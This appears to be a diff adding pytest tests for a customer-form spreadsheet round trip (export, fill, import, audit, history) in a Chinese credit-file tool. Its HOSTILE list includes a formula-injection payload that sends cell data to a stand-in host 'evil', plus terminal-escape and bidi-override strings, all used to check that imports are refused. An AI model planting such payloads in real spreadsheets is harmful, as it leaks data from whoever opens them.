@@ -1,0 +1,198 @@
+"""A form's round trip as an office and a customer live it: export, fill in as a customer would
+(openpyxl, the cells of the form), import, audit each way, and every step in the history."""
+
+from __future__ import annotations
+
+import json
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from cli_support import Run, no_traceback
+from openpyxl import load_workbook
+
+from creditfile.spreadsheets.customer_form import FORM_SHEET
+from creditfile.store import Archive
+
+COMPANY: dict[str, Any] = {
+    "id": "C1",
+    "name": "武汉宏达建设工程有限公司",
+    "nature": "ordinary_company",
+    "contact": {"phone": "02785551234", "person": "张三", "address": "武汉市江汉路1号"},
+    "profile": {"founded_on": "2008-05-20", "registered_capital": 50000000},
+    "business": {"construction_business": "学校"},
+    "assessment": {"strength": 8, "note": "内部评估备注"},
+}
+
+
+@pytest.fixture
+def archive(tmp_path: Path) -> Path:
+    path = tmp_path / "archive.json"
+    Archive.open(path, create=True).import_customers([COMPANY], actor="seed")
+    return path
+
+
+def fill(form: Path, answers: dict[str, Any], out: Path | None = None) -> Path:
+    """Type answers into the form's cells by field key, as a customer in Excel would."""
+    book = load_workbook(form)
+    sheet = book[FORM_SHEET]
+    rows = {row[3].value: row[1] for row in sheet.iter_rows(min_row=4) if row[3].value}
+    for key, value in answers.items():
+        rows[key].value = value
+    target = out or form
+    book.save(target)
+    return target
+
+
+def doc_of(archive: Path) -> dict[str, Any]:
+    record = Archive.open(archive).get("C1")
+    assert record is not None
+    return record
+
+
+def history(run: Run, kind: str) -> list[dict[str, Any]]:
+    done = run("history", "C1", "--event", kind, "--json")
+    assert done.returncode == 0, done.stderr
+    return list(json.loads(done.stdout))
+
+
+def test_export_fill_import_and_audit_each_way(archive: Path, run: Run) -> None:
+    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
+    form = fill(
+        archive.parent / "c1.xlsx",
+        {
+            "profile.registered_capital": 80000000,  # overstated: to audit
+            "profile.total_assets": "1.2亿",  # new, as people write it
+            "contact.phone": "027-85551234",  # corrected
+            "business.construction_business": "学校、医院",
+            "form.by": "李会计",
+            "form.on": datetime(2026, 11, 30),
+        },
+    )
+    done = run("--actor", "王敏", "form", "import", str(form))
+    assert done.returncode == 0, done.stderr
+    assert "4 declared values" in done.stdout
+    record = doc_of(archive)
+    # The archive's own values are untouched: declared ones wait beside them.
+    assert record["profile"]["registered_capital"] == 50000000
+    assert record["contact"]["phone"] == "02785551234"
+    [source] = record["sources"]
+    assert source["kind"] == "customer_form" and source["verified"] is False
+    assert (source["by"], source["on"]) == ("李会计", "2026-11-30")
+    assert source["declared"] == {
+        "profile.registered_capital": 80000000,
+        "profile.total_assets": 120000000,
+        "contact.phone": "027-85551234",
+        "business.construction_business": "学校、医院",
+    }
+    # The same form imported again records nothing more.
+    again = run("form", "import", str(form))
+    assert again.returncode == 0 and "recorded already" in again.stdout
+    assert len(doc_of(archive)["sources"]) == 1
+    listed = run("form", "audit", "C1")
+    assert "declared 80,000,000.00" in listed.stdout and "on file 50,000,000.00" in listed.stdout
+
+    steps = [
+        ("profile.registered_capital", "reject"),
+        ("总资产", "accept"),
+        ("contact.phone", "set", "027-8555 1234"),
+        ("construction_business", "accept"),
+    ]
+    for field, *decision in steps:
+        step = run("--actor", "王敏", "form", "audit", "C1", field, *decision)
+        assert step.returncode == 0, step.stderr
+    record = doc_of(archive)
+    assert record["profile"]["registered_capital"] == 50000000  # rejected
+    assert record["profile"]["total_assets"] == 120000000  # accepted
+    assert record["contact"]["phone"] == "027-8555 1234"  # corrected
+    assert record["business"]["construction_business"] == "学校、医院"
+    [source] = record["sources"]
+    assert source["verified"] is True and "declared" not in source
+    assert "the form is verified" in step.stdout
+
+    audited = history(run, "form_audited")
+    assert [
+        (e["field"], e["decision"], e["declared"], e["decided"], e["actor"]) for e in audited
+    ] == [
+        ("profile.registered_capital", "reject", 80000000, 50000000, "王敏"),
+        ("profile.total_assets", "accept", 120000000, 120000000, "王敏"),
+        ("contact.phone", "set", "027-85551234", "027-8555 1234", "王敏"),
+        ("business.construction_business", "accept", "学校、医院", "学校、医院", "王敏"),
+    ]
+    [imported] = history(run, "form_imported")
+    assert imported["file"] == "c1.xlsx" and imported["actor"] == "王敏"
+    assert len(history(run, "source_verified")) == 1
+    shown = run("history", "C1").stdout
+    assert "注册资本(元)" in shown or "Registered capital" in shown
+    # Nothing more to audit.
+    done = run("form", "audit", "C1", "name", "accept")
+    assert done.returncode == 1 and "no declared value" in done.stderr
+
+
+def test_a_form_that_matches_the_archive_is_verified_at_once(archive: Path, run: Run) -> None:
+    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
+    form = fill(archive.parent / "c1.xlsx", {"form.by": "张三"})
+    done = run("form", "import", str(form))
+    assert done.returncode == 0 and "every answer is as on file" in done.stdout
+    [source] = doc_of(archive)["sources"]
+    assert source["verified"] is True and "declared" not in source
+
+
+HOSTILE = [
+    ({"name": '=HYPERLINK("http://evil/?d="&A1,"x")'}, "B5", "formula"),
+    # An 8-bit escape sequence (CSI): a workbook cannot hold ESC itself.
+    ({"contact.person": "\x9b2J张"}, "B9", "U+009B"),
+    ({"name": "宏达\u202e司公限有"}, "B5", "U+202E"),
+    ({"business.construction_business": "x" * 5000}, "B14", "over the limit"),
+    ({"profile.registered_capital": "很多"}, "B12", "注册资本"),
+    ({"credit_code": "123"}, "B6", "统一社会信用代码"),
+    ({"id": "C9"}, "B4", "no customer 'C9'"),
+]
+
+
+@pytest.mark.parametrize(("answers", "cell", "said"), HOSTILE, ids=lambda v: ascii(v)[:30])
+def test_hostile_answers_are_refused_at_their_cell(
+    archive: Path, run: Run, answers: dict[str, Any], cell: str, said: str
+) -> None:
+    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
+    form = archive.parent / "c1.xlsx"
+    book = load_workbook(form)
+    sheet = book[FORM_SHEET]
+    rows = {row[3].value: row[1] for row in sheet.iter_rows(min_row=4) if row[3].value}
+    for key, value in answers.items():
+        rows[key].value = value  # a string starting with = is stored as a formula
+    book.save(form)
+    before = archive.read_bytes()
+    done = run("form", "import", str(form))
+    assert done.returncode == 1 and no_traceback(done), done.stderr
+    assert f"{FORM_SHEET}!{cell}" in done.stderr and said in done.stderr
+    assert "\x9b" not in done.stderr and "\u202e" not in done.stderr
+    assert archive.read_bytes() == before
+
+
+def test_a_workbook_of_another_layout_is_refused(archive: Path, run: Run) -> None:
+    assert run("template", "--out", "t.xlsx").returncode == 0
+    done = run("form", "import", "t.xlsx")
+    assert done.returncode == 1 and "not a customer form" in done.stderr
+    (archive.parent / "n.xlsx").write_text("not a workbook")
+    done = run("form", "import", "n.xlsx")
+    assert done.returncode == 1 and "not a readable .xlsx" in done.stderr and no_traceback(done)
+    # A form whose hidden key column was edited names the row.
+    assert run("form", "C1", "--out", "c1.xlsx").returncode == 0
+    book = load_workbook(archive.parent / "c1.xlsx")
+    book[FORM_SHEET]["D7"] = "assessment.strength"
+    book.save(archive.parent / "c1.xlsx")
+    done = run("form", "import", "c1.xlsx")
+    assert done.returncode == 1 and f"{FORM_SHEET}!B7" in done.stderr
+    assert "'assessment.strength'" in done.stderr
+
+
+def test_a_blank_form_needs_an_id(archive: Path, run: Run) -> None:
+    assert run("form", "--blank", "--out", "b.xlsx").returncode == 0
+    form = fill(archive.parent / "b.xlsx", {"name": "某公司"})
+    done = run("form", "import", str(form))
+    assert done.returncode == 1 and "names no customer" in done.stderr
+    fill(form, {"id": "C1"})
+    done = run("form", "import", str(form))
+    assert done.returncode == 0 and "1 declared value" in done.stdout
